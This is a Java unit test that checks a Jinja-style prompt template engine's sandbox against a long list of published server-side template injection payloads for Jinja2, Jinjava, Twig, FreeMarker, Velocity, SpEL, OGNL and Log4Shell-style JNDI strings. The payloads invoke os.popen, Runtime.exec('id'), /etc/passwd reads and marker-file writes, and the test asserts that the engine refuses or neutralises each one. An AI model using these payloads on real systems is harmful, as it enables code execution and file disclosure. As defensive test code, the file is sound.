package io.assize.prompt.jinja;

import static org.assertj.core.api.Assertions.assertThat;

import io.assize.config.UserError;
import java.lang.reflect.Modifier;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Every way in that is published for engines of this kind ends in a refusal or in harmless text:
 * nothing but a template's own values can be reached.
 */
class SandboxTest {
  @TempDir static Path folder;

  static Stream<String> waysIn() {
    String mark = folder.resolve("mark").toString();
    List<String> ways = new ArrayList<>();
    // Jinja2, over Python's classes.
    for (String object : List.of("''", "[]", "()", "{}", "1", "none", "messages", "x", "range")) {
      ways.add("{{ " + object + ".__class__ }}");
      ways.add("{{ " + object + ".__class__.__mro__[1].__subclasses__() }}");
      ways.add(
          "{{ " + object + ".__class__.__base__.__subclasses__()[40]('/etc/passwd').read() }}");
      ways.add("{{ " + object + "['__class__']['__bases__'] }}");
      ways.add("{{ " + object + "|attr('__class__')|attr('__mro__') }}");
      ways.add("{{ " + object + "|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('mro')() }}");
      ways.add("{{ " + object + "|attr(['_'*2,'class','_'*2]|join)|attr('base') }}");
      ways.add("{{ [" + object + "]|map(attribute='__class__.__mro__')|list }}");
      ways.add("{{ [" + object + "]|selectattr('__class__.__init__')|list }}");
      ways.add("{{ [" + object + "]|groupby('__class__') }}");
      ways.add("{{ [" + object + "]|sort(attribute='__class__') }}");
      ways.add("{{ [" + object + "]|sum(attribute='__class__') }}");
      ways.add("{{ '{0.__class__.__mro__}'.format(" + object + ") }}");
      ways.add("{{ '{a.__class__.__init__.__globals__}'.format(a=" + object + ") }}");
      ways.add("{{ '{0[__class__]}'.format(" + object + ") }}");
      ways.add("{{ '{x.__class__}'.format_map({'x': " + object + "}) }}");
      ways.add("{{ ('%(a)s' % {'a': " + object + "}).__class__ }}");
      // Java's side of such an object.
      ways.add("{{ " + object + ".class }}");
      ways.add("{{ " + object + ".getClass() }}");
      ways.add("{{ " + object + "['class'] }}");
      ways.add("{{ " + object + ".class.forName('java.lang.Runtime') }}");
      ways.add(
          "{{ "
              + object
              + ".getClass().forName('java.lang.Runtime').getRuntime().exec('touch "
              + mark
              + "') }}");
      ways.add("{{ " + object + ".class.protectionDomain.codeSource.location }}");
      ways.add("{{ " + object + "|attr('getClass') }}");
      ways.add("{{ " + object + "|attr('class') }}");
      ways.add("{{ " + object + ".hashCode() }}{{ " + object + ".toString() }}");
      ways.add("{{ " + object + ".wait(1) }}{{ " + object + ".notify() }}");
    }
    for (String global :
        List.of(
            "config",
            "self",
            "request",
            "session",
            "g",
            "url_for",
            "lipsum",
            "cycler",
            "joiner",
            "namespace",
            "get_flashed_messages",
            "raise_exception",
            "strftime_now",
            "dict")) {
      ways.add("{{ " + global + ".__init__.__globals__.os.popen('touch " + mark + "').read() }}");
      ways.add("{{ " + global + ".__globals__['os'].system('touch " + mark + "') }}");
      ways.add("{{ " + global + "|attr('__globals__') }}");
      ways.add("{{ " + global + ".__self__.__dict__ }}");
      ways.add("{{ " + global + ".items() }}");
      ways.add("{{ " + global + ".call }}{{ " + global + ".body }}{{ " + global + ".name }}");
    }
    ways.addAll(
        List.of(
            "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()"
                + " }}",
            "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
            "{{ cycler('a').__init__.__globals__ }}{{ cycler('a').items.getClass() }}",
            "{{ joiner().__init__.__globals__ }}",
            "{{ namespace().__init__.__globals__ }}{{ namespace()._Namespace__attrs }}",
            "{{ namespace(a=1).attributes }}{{ namespace(a=1).getClass() }}",
            "{% set n = namespace() %}{% set n.__class__ = 1 %}{{ n.__class__ }}",
            "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
            "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__ ==\n"
                + "'catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id')"
                + " }}{% endif %}{% endfor %}",
            "{% for i in [1] %}{{ loop.__class__.__init__.__globals__ }}{{ loop._iterable }}"
                + "{{ loop.items }}{{ loop.recursion }}{{ loop.getClass() }}{% endfor %}",
            "{% macro m() %}{{ caller.around }}{{ varargs.__class__ }}{{ kwargs.__class__ }}{%"
                + " endmacro %}{% call m() %}{% endcall %}{{ m.around }}{{ m._func.__globals__ }}",
            "{% macro m() %}{% endmacro %}{{ m.__globals__ }}{{ m.macro }}{{ m.getClass() }}",
            "{{ (messages|map('upper')).gi_frame.f_globals }}",
            "{{ (messages|select).gi_code }}{{ (messages|select).items }}",
            "{{ ''.format.__self__.__class__ }}{{ ''.join.__func__ }}{{ ''.upper.body }}",
            "{{ ''|map('__class__')|list }}{{ ['a']|map('attr', '__class__')|list }}",
            "{{ ['id']|map('system')|list }}{{ ['id']|map('eval')|list }}",
            "{% include '/etc/passwd' %}",
            "{% import 'os' as os %}{{ os.system('id') }}",
            "{% from 'os' import system %}",
            "{% extends '/etc/passwd' %}",
            "{% block a %}{{ self.a.__globals__ }}{% endblock %}",
            "{% debug %}",
            "{% autoescape false %}{{ 1 }}{% endautoescape %}",
            "{{ messages.append(1) }}",
            "{{ {'a': 1}.update({'b': 2}) }}",
            "{{ {'a': 1}.pop('a') }}{{ [1].clear() }}{{ [1].sort() }}",
            "{{ ''.encode() }}{{ ''.translate({}) }}{{ ''.maketrans({}) }}",
            // Jinjava: CVE-2020-12668, CVE-2025-59340, CVE-2026-25526, and what led to them.
            "{{ ''.getClass().forName('javax.script.ScriptEngineManager').newInstance()"
                + ".getEngineByName('JavaScript').eval('1+1') }}",
            "{{ 'a'.getClass().forName('java.lang.Thread').currentThread() }}",
            "{{ ____int3rpr3t3r____ }}",
            "{{ ____int3rpr3t3r____.getContext() }}{{ ____int3rpr3t3r____.config }}",
            "{% set ji='a'.getClass().forName('com.hubspot.jinjava.Jinjava').newInstance() %}"
                + "{{ ji.render('{{1*1}}', {}) }}",
            "{{ ____int3rpr3t3r____.getGlobalConfig().getObjectMapper()"
                + ".readValue('\"x\"', 'java.net.URL') }}",
            "{% for key, value in ____int3rpr3t3r____ %}{{ key }}{{ value }}{% endfor %}",
            "{% for a, b in ____int3rpr3t3r____.context %}{{ a }}{% endfor %}",
            "{% for a, b in messages %}{{ a.class }}{{ b.class }}{% endfor %}",
            "{% for a, b in [range] %}{{ a }}{{ b }}{% endfor %}",
            "{% for a, b in namespace(x=1) %}{{ a }}{% endfor %}",
            "{% for class, declaringClass in messages %}{{ class }}{{ declaringClass }}{% endfor"
                + " %}",
            "{% for a in ____int3rpr3t3r____ %}{{ a }}{% endfor %}",
            "{{ context }}{{ interpreter }}{{ deferred }}{{ request.__init__ }}",
            "{% do ____int3rpr3t3r____ %}",
            "{% from_yaml %}{{ 'a: !!java.net.URL [\"http://x\"]'|fromyaml }}{{ '{}'|fromjson }}",
            "{{ '[1]'|fromjson }}{{ 'x'|render }}{{ '{{ 1 }}'|render }}{{ 1|ipaddr }}",
            "{{ type(1) }}{{ unixtimestamp() }}{{ today() }}{{ datetimeformat() }}",
            "{% eager_x %}{% cycle a %}{% unless 1 %}{% endunless %}{% ifchanged 1 %}",
            "{{ exptest:odd.evaluate(1, ____int3rpr3t3r____) }}{{ filter:upper.filter('a') }}",
            "{{ fn:range(1) }}",
            // Pebble, Twig, FreeMarker, Velocity, Thymeleaf, SpEL, EL, OGNL, JSF.
            "{{ (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null, null) }}",
            "{{ variable.getClass().forName('java.lang.Runtime').getRuntime().exec('id') }}",
            "{{ beans }}{{ request }}{{ response }}{{ beans.get('x') }}",
            "{{ 'java.lang.Runtime'.class.forName('java.lang.Runtime') }}",
            "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id')"
                + " }}",
            "{{ ['id']|filter('system') }}{{ ['id', '']|sort('system') }}{{ ['id']|map('exec') }}",
            "{{ {'<?php':1}|map('file_put_contents')|join }}{{ _context }}{{ app.request }}",
            "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }",
            "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.io.File\", \"x\")}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}${T(java.lang.System).getenv()}",
            "{{ T(java.lang.Runtime).getRuntime().exec('id') }}",
            "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)",
            "#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) $rt",
            "*{T(java.lang.Runtime).getRuntime()}__${7*7}__::.x",
            "${''.getClass().forName('java.lang.Runtime')}%{(#rt=@java.lang.Runtime@getRuntime())}",
            "<%= system('id') %><%- global.process.mainModule.require('child_process') %>",
            "{php}echo `id`;{/php}{{constructor.constructor('return process')()}}",
            "{{ this.constructor.constructor('return 1')() }}{{ #with 'a' as |x| }}",
            "${jndi:ldap://x/y}{{ '${jndi:ldap://x/y}' }}",
            "{{ @java.lang.Runtime@getRuntime() }}"));
    return ways.stream();
  }

  @ParameterizedTest
  @MethodSource("waysIn")
  void aWayInIsRefusedOrHarmless(String template) {
    String seen;
    try {
      Map<String, Object> values = Map.of("messages", List.of(Map.of("role", "user")), "x", "text");
      seen = Template.parse(template).render(values, Limits.DEFAULT).toString();
    } catch (UserError e) {
      seen = e.getMessage();
      assertThat(seen).startsWith("template");
    }
    String told = seen.replace(template.replaceAll("\\s+", " "), "").replace(template, "");
    assertThat(told)
        .doesNotContain("io.assize", "class java", "java.base", "root:", "uid=", "file:/")
        .doesNotContainPattern("@[0-9a-f]{4,}");
    assertThat(folder.resolve("mark")).doesNotExist();
    assertThat(Files.exists(folder)).isTrue();
  }

  @Test
  void theEngineUsesNoReflectionFilesProcessesOrNetwork() throws Exception {
    Path classes = Path.of(Template.class.getResource("Template.class").toURI()).getParent();
    try (Stream<Path> files = Files.list(classes)) {
      for (Path file : files.filter(path -> path.toString().endsWith(".class")).toList()) {
        String constants = Files.readString(file, StandardCharsets.ISO_8859_1);
        if (!file.getFileName().toString().endsWith("Test.class")) {
          assertThat(constants)
              .as(file.getFileName().toString())
              .doesNotContainPattern("java/lang/Runtime(?!Exception)")
              .doesNotContain(
                  "java/lang/reflect",
                  "java/lang/Process",
                  "java/lang/ClassLoader",
                  "java/lang/System;",
                  "java/io/File",
                  "java/nio/file",
                  "java/net/",
                  "forName",
                  "getMethod",
                  "ObjectInputStream",
                  "javax/script",
                  "setAccessible");
        }
      }
    }
  }

  @Test
  void onlyTheTemplateItsTextAndItsLimitsAreSeenFromOutside() throws Exception {
    Path classes = Path.of(Template.class.getResource("Template.class").toURI()).getParent();
    List<String> open = new ArrayList<>();
    try (Stream<Path> files = Files.list(classes)) {
      for (Path file : files.filter(path -> path.toString().endsWith(".class")).toList()) {
        String name = file.getFileName().toString().replace(".class", "");
        Class<?> type = Class.forName("io.assize.prompt.jinja." + name);
        if (Modifier.isPublic(type.getModifiers()) && !name.contains("$")) {
          open.add(name);
        }
      }
    }
    assertThat(open).containsExactlyInAnyOrder("Template", "Text", "Limits");
  }
}
